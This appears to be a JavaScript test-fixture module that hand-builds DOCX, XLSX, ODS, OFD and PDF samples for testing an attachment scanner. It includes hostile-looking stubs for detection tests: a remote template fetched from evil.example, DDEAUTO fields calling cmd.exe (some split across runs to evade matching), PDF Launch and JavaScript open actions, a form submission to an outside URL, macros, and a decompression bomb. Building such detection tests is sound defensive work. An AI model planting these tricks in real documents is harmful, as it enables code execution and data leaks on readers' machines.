// Documents made by hand, with what hides in them, for the tests of attachments.
import { deflateRawSync } from 'node:zlib';
import { crc32 } from './photo_files.mjs';

/** A ZIP (APPNOTE.TXT) of [name, content] pairs; encrypted sets that flag; each says it is of size bytes, if given. */
export function zip(files, { encrypted = false, size } = {}) {
  const parts = [], central = [];
  let at = 0;
  for (const [name, content] of files) {
    const raw = Buffer.from(content), packed = deflateRawSync(raw), id = Buffer.from(name);
    const fields = Buffer.alloc(26);
    fields.writeUInt16LE(20, 0);
    fields.writeUInt16LE(encrypted ? 1 : 0, 2);
    fields.writeUInt16LE(8, 4);
    fields.writeUInt32LE(crc32(raw), 10);
    fields.writeUInt32LE(packed.length, 14);
    fields.writeUInt32LE(size ?? raw.length, 18);
    fields.writeUInt16LE(id.length, 22);
    const local = Buffer.concat([Buffer.from('PK\x03\x04'), fields, id, packed]);
    const tail = Buffer.alloc(14);
    tail.writeUInt32LE(at, 10);
    central.push(Buffer.concat([Buffer.from('PK\x01\x02\x14\x00', 'latin1'), fields, tail, id]));
    parts.push(local);
    at += local.length;
  }
  const directory = Buffer.concat(central), end = Buffer.alloc(18);
  end.writeUInt16LE(files.length, 4);
  end.writeUInt16LE(files.length, 6);
  end.writeUInt32LE(directory.length, 8);
  end.writeUInt32LE(at, 12);
  return Buffer.concat([...parts, directory, Buffer.from('PK\x05\x06'), end]);
}

const TYPES = ['[Content_Types].xml', '<Types xmlns="t"/>'];
export const core = (author) => ['docProps/core.xml',
  `<cp:coreProperties xmlns:cp="c" xmlns:dc="d"><dc:creator>${author}</dc:creator></cp:coreProperties>`];

export const docx = (body = '', more = []) => zip([TYPES, ['word/document.xml',
  `<w:document xmlns:w="w"><w:body><w:p>${body}</w:p></w:body></w:document>`], ...more]);
export const trackedDocx = () => docx('<w:ins/><w:del/>', [core('王小明'),
  ['word/comments.xml', '<w:comments xmlns:w="w"><w:comment/></w:comments>'],
  ['docProps/app.xml', '<Properties xmlns="p"><Company>云川市某局</Company></Properties>']]);
export const hiddenXlsx = () => zip([TYPES, ['xl/workbook.xml',
  '<workbook xmlns="s"><sheets><sheet name="公开"/><sheet name="名单" state="veryHidden"/></sheets></workbook>'],
['xl/worksheets/sheet1.xml',
  '<worksheet xmlns="s"><cols><col hidden="1"/></cols><sheetData><row hidden="1"/></sheetData></worksheet>'],
['xl/pivotCache/pivotCacheRecords1.xml', '<r/>']]);
export const ods = () => zip([['mimetype', 'application/vnd.oasis.opendocument.spreadsheet'], ['content.xml',
  '<o:d xmlns:o="o" xmlns:t="t"><t:table-row t:visibility="collapse"/></o:d>']]);
export const ofd = () => zip([['OFD.xml', '<ofd:OFD xmlns:ofd="o"><ofd:Author>张三</ofd:Author></ofd:OFD>']]);
export const macroDocx = () => docx('', [['word/vbaProject.bin', 'x']]);
export const entityDocx = () => zip([TYPES, ['word/document.xml', '<!DOCTYPE a [<!ENTITY x "y">]><a>&x;</a>']]);
export const bombDocx = () => zip([TYPES, ['word/document.xml', ' '.repeat(1 << 20)]], { size: 650 << 20 });
export const oldOffice = () => Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(600)]);

/** A PDF of one page; annotation, catalog and trailer stand in these dictionaries besides; pad blanks make it large. */
export function pdf({ annotation = '', catalog = '', trailer = '', pad = 0 } = {}) {
  const objects = [`<</Type/Catalog/Pages 2 0 R${catalog}>>`, '<</Type/Pages/Kids[3 0 R]/Count 1>>',
    `<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]${annotation}>>`, '<</Author(Wang)>>'];
  let text = `%PDF-1.4\n${' '.repeat(pad)}\n`;
  const at = objects.map((object, i) => {
    const here = text.length;
    text += `${i + 1} 0 obj\n${object}\nendobj\n`;
    return here;
  });
  const start = text.length;
  text += `xref\n0 ${at.length + 1}\n0000000000 65535 f \n` +
    at.map((here) => `${String(here).padStart(10, '0')} 00000 n \n`).join('');
  return Buffer.from(`${text}trailer<</Size ${at.length + 1}/Root 1 0 R/Info 4 0 R${trailer}>>\n` +
    `startxref\n${start}\n%%EOF\n`);
}

/** Adds a file to the draft of article n as this person's browser would; more replaces form fields. */
export async function upload(who, n, bytes, name, more = {}) {
  const page = await who.json(`/staff/articles/${n}.json`);
  const body = new FormData();
  for (const [key, value] of Object.entries({ form: page.form, version: page.article.record, ...more }))
    body.append(key, value);
  body.append('file', new Blob([bytes]), name);
  const reply = await who.send('POST', `/staff/articles/${n}/attachments`,
    { body, headers: { accept: 'application/json' } });
  return { status: reply.status, ...JSON.parse(reply.content) };
}

const related = (type, target) => ['word/_rels/document.xml.rels', '<Relationships xmlns="r"><Relationship Id="a" ' +
  `Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" ` +
  'TargetMode="External"/></Relationships>'];
const field = (...words) => words.map((word) => `<w:r><w:instrText>${word}</w:instrText></w:r>`).join('');

/** Documents that do something when they are opened: what they do → [bytes, name]. */
export const acting = () => Object.entries({
  'remote template': docx('', [related('attachedTemplate', 'https://evil.example/a.dotm')]),
  'remote object': docx('', [related('oleObject', '\\\\host\\share\\a.xls')]),
  'DDE in pieces': docx(`<w:fldChar w:fldCharType="begin"/>${field(' DD', 'EAUTO c:\\\\cmd.exe ')}`),
  'DDE of a simple field': docx('<w:fldSimple w:instr=" ddeauto cmd"/>'),
  'macros by type': zip([['[Content_Types].xml', '<Types xmlns="t"><Override PartName="/word/x.bin" ' +
    'ContentType="application/vnd.ms-office.vbaProject"/></Types>'], ['word/document.xml', '<a/>']]),
  'other case': zip([['[content_types].XML', '<Types xmlns="t"/>'], ['WORD/Document.XML',
    '<w:d xmlns:w="w"><w:fldSimple w:instr="DDE x"/></w:d>']]),
  'another ending': docx('', [['word/story.dat', '<?xml version="1.0"?><a><b instr=""/>' +
    '<fldSimple instr="DDE x"/></a>']]),
}).map(([what, bytes]) => [what, bytes, 'a.docx']).concat(Object.entries({
  launch: { catalog: '/OpenAction<</S/Launch/F(cmd.exe)>>' },
  script: { catalog: '/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>' },
  'script of a page': { annotation: '/AA<</O<</S/JavaScript/JS(x)>>>>' },
  'script of a field': { annotation: '/Annots[<</Subtype/Widget/Rect[0 0 9 9]/A<</S/JavaScript/JS(x)>>>>]' },
  sending: { annotation: '/Annots[<</Subtype/Widget/Rect[0 0 9 9]/A<</S/SubmitForm/F(http://x)>>>>]' },
  'rich media': { annotation: '/Annots[<</Type/Annot/Subtype/RichMedia/Rect[0 0 9 9]>>]' },
  XFA: { catalog: '/AcroForm<</Fields[]/XFA[(a)4 0 R]>>' },
}).map(([what, more]) => [what, pdf(more), 'a.pdf']));
export const twinDocx = () => docx('', [['WORD/document.xml', '<a/>']]);

/** Documents that are taken, with what is told of them: [bytes, name, findings]. */
export const odd = (photo) => [
  [docx('', [['word/media/image1.jpg', photo]]), 'photo.docx', ['place']],
  [docx('', [['word/media/image1.bin', Buffer.from('d0cf11e0a1b11ae1', 'hex')]]), 'ole.docx', ['files']],
  [docx('', [related('image', 'http://x.example/a.png')]), 'image.docx', ['outside']],
  [docx('', [related('attachedTemplate', 'file:///C:\\Users\\wang\\Normal.dotm')]), 'template.docx',
    ['outside']],
  [docx('', [['customXml/item1.xml', '<a><name>王小明</name></a>']]), 'data.docx', ['data']],
  [docx('', [related('hyperlink', 'http://x.example/'), ['customXml/item1.xml', '<a b="c"/>'],
    ['docProps/custom.xml', '<P><property name="KSOProductBuildVer"><v>2052</v></property></P>']]), 'plain.docx', []],
  [pdf({ annotation: '/AA<</O<</S/GoTo/D[3 0 R/Fit]>>>>' }), 'aa.pdf', ['author', 'actions']],
  [pdf({ catalog: '/OpenAction<</S/GoToR/F(other.pdf)/D[0/Fit]>>' }), 'other.pdf', ['author', 'outside']],
  [pdf({ catalog: '/OpenAction[3 0 R/Fit]' }), 'view.pdf', ['author']],
];
